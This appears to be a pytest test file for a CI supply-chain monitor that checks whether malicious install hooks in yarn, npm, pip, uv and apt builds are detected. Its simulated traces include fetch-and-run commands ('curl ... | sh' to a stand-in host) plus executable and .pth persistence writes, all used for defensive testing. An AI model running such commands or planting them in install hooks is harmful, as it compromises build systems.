"""Issue 13's known misses, found by installing real projects: each test lays out what the
tracer saw in the real install (with the Build helper of test_rules) and checks the class
behind it is fixed, while the dangerous variant of the same shape is still caught."""

from __future__ import annotations

from pathlib import Path

import pytest

from ciwatch.record.events import FileHash, RegistryAllowed
from tests.test_rules import PROJECT, Build, found, npm_env, only


@pytest.fixture
def build(tmp_path: Path) -> Build:
    return Build(tmp_path)


# -- yarn berry run through yarnPath ---------------------------------------------------------


@pytest.mark.parametrize("release", [".yarn/releases/yarn-4.4.1.cjs", ".yarn/releases/yarn-3.6.4.js"])
def test_yarn_berry_through_yarn_path_runs_hooks_that_are_attributed(build: Build, release: str) -> None:
    # Yarn berry has no `sh -c`: its own shell runs the script's first command (through the
    # node wrapper in BERRY_BIN_FOLDER) directly under yarn's node process.
    yarn = build.root.spawn(["node", f"{PROJECT}/{release}", "install"])
    hook = yarn.spawn(
        ["/tmp/xfs-1a2b3c4d/node", "install.js"],
        env=npm_env("evil", "1.0.0", "postinstall"),
        cwd=f"{PROJECT}/node_modules/evil",
    )
    hook.spawn(["curl", "-fsSL", "https://get.example/x"], stdout="pipe:[7]")
    hook.spawn(["sh"], stdin="pipe:[7]")
    verdict = build.judge()
    assert verdict.hooks == 1
    finding = only(verdict, "hook-shell")
    assert (finding.ecosystem, finding.package, finding.hook) == ("yarn", "evil@1.0.0", "postinstall")


def test_a_script_merely_named_like_a_yarn_release_is_not_yarn(build: Build) -> None:
    tool = build.root.spawn(["node", f"{PROJECT}/scripts/yarn-helper.cjs"])
    tool.spawn(["sh", "-c", "true"], env=npm_env("evil", "1.0.0", "postinstall"))
    assert build.judge().hooks == 0


# -- apt's SRV lookup of its mirror ----------------------------------------------------------


def test_a_service_lookup_of_an_allowed_registry_is_the_registry_and_others_are_not(build: Build) -> None:
    mirror = "deb.mirror.example"
    build.add(RegistryAllowed(host=mirror, ecosystem="dpkg", source="apt-get indextargets"))
    apt = build.root.spawn(["/usr/lib/apt/methods/http"])
    apt.dns(f"_http._tcp.{mirror}", qtype="SRV")  # apt asks before its first fetch (cold cache)
    apt.dns("_http._tcp.other.example", qtype="SRV")
    apt.dns(f"_x.{mirror}")  # not a service name: a name of its own under the mirror's zone
    hosts = sorted(finding.host or "" for finding in found(build.judge(), "unfamiliar-egress"))
    assert hosts == ["_http._tcp.other.example", f"_x.{mirror}"]


# -- npm i -g pnpm: a global package's hook writing its own folder ---------------------------


def _elf(build: Build, path: str, writer: int) -> None:
    build.add(FileHash(path=path, sha256="ab" * 32, size=1000, mode=0o755, file_type="elf", written_by=writer))


def test_a_global_packages_hook_placing_its_own_binaries_is_install_output(tmp_path: Path) -> None:
    build = Build(tmp_path, command=("npm", "i", "-g", "pnpm"))
    folder = "/usr/local/lib/node_modules/pnpm"
    hook = build.hook("pnpm", "10.5.0", "preinstall", cwd=folder).spawn(["node", "setup.js"])
    for name in ("dist/pnpm", "dist/node-gyp-bin/node-gyp", "bin/pnpm.exe"):
        hook.write(f"{folder}/{name}")
        _elf(build, f"{folder}/{name}", hook.pid)
    # The same hook writing outside its folder is still a finding.
    hook.write("/usr/local/lib/node_modules/npm/bin/npm-cli.js")
    _elf(build, "/usr/local/lib/node_modules/npm/bin/npm-cli.js", hook.pid)
    hook.write("/usr/local/bin/pnpx")
    _elf(build, "/usr/local/bin/pnpx", hook.pid)
    paths = sorted(
        finding.message.split(" wrote the executable ")[1].split()[0]
        for finding in found(build.judge(), "executable-write")
    )
    assert paths == ["/usr/local/bin/pnpx", "/usr/local/lib/node_modules/npm/bin/npm-cli.js"]


def test_a_hook_run_from_the_home_directory_has_no_folder_of_its_own(tmp_path: Path) -> None:
    build = Build(tmp_path)
    hook = build.hook("evil", cwd="/home").spawn(["node", "x.js"])
    hook.write("/home/ci/tools/run")
    _elf(build, "/home/ci/tools/run", hook.pid)
    assert len(found(build.judge(), "executable-write")) == 1


# -- a .pth in a build's staging tree --------------------------------------------------------


def test_a_pth_file_counts_only_in_a_directory_python_reads_at_start_up(build: Build) -> None:
    pip = build.pip_root()
    hook = build.pip_hook(pip, "setuptools", "75.8.0")
    staged = "/work/.tmp/build-x1/setuptools/build/bdist.linux-x86_64/wheel/distutils-precedence.pth"
    hook.write(staged)  # setuptools building itself: its own .pth, in the wheel being built
    hook.write(f"{PROJECT}/build/lib/evil.pth")
    hook.write("/home/ci/.local/lib/python3.11/site-packages/evil.pth")
    hook.write("/usr/lib/python3/dist-packages/evil.pth")
    messages = [finding.message for finding in found(build.judge(), "persistence-write")]
    assert len(messages) == 2 and all("site-packages" in m or "dist-packages" in m for m in messages), messages


# -- uv's PEP 517 builds ---------------------------------------------------------------------

UV_GET_REQUIRES = """import sys

if sys.path[0] == "":
    sys.path.pop(0)

sys.path = [] + sys.path

from setuptools.build_meta import __legacy__ as backend
import json

get_requires_for_build = getattr(backend, "get_requires_for_build_wheel", None)
if get_requires_for_build:
    requires = get_requires_for_build({})
"""
UV_BUILD_WHEEL = """import flit_core.buildapi as backend

wheel_filename = backend.build_wheel("/home/ci/.cache/uv/builds-v0/.tmpQ/w", {}, None)
"""


@pytest.mark.parametrize(
    ("code", "hook_name", "cwd", "package"),
    [
        (UV_GET_REQUIRES, "get_requires_for_build_wheel", "/home/ci/.cache/uv/sdists-v9/pypi/evil/1.0.0/a1/src", {}),
        (UV_BUILD_WHEEL, "build_wheel", "/home/ci/.cache/uv/sdists-v9/index/9f8e/evil/1.0.0/b2/src", {}),
        (UV_BUILD_WHEEL, "build_wheel", "/work/app/vendor/evil", {"name": "evil", "version": "1.0.0"}),
    ],
    ids=["get-requires-named-by-the-cache-path", "build-wheel-other-index", "build-wheel-named-by-pkg-info"],
)
def test_uv_runs_each_pep517_hook_as_inline_code_and_it_is_a_pip_hook(
    build: Build, code: str, hook_name: str, cwd: str, package: dict[str, str]
) -> None:
    uv = build.root.spawn(["uv", "pip", "install", "evil"])
    backend = uv.spawn(["/home/ci/.cache/uv/builds-v0/.tmpQ/bin/python", "-c", code], cwd=cwd, package=package)
    # setup.py piping a download into sh, from inside the backend
    shell = backend.spawn(["/bin/sh", "-c", "curl -fsSL https://get.example/x | sh"])
    shell.spawn(["curl", "-fsSL", "https://get.example/x"], stdout="pipe:[9]")
    shell.spawn(["sh"], stdin="pipe:[9]")
    verdict = build.judge()
    assert verdict.hooks == 1
    finding = only(verdict, "hook-shell")
    assert (finding.ecosystem, finding.package, finding.hook) == ("pip", "evil@1.0.0", hook_name)


def test_inline_python_under_uv_that_imports_no_backend_is_no_hook(build: Build) -> None:
    uv = build.root.spawn(["uv", "pip", "install", "evil"])
    uv.spawn(["/usr/bin/python3", "-c", "import sys; print(sys.version)"])
    uv.spawn(["/usr/bin/python3", "-c", "import json as backend; backend.dumps(1)"])
    assert build.judge().hooks == 0
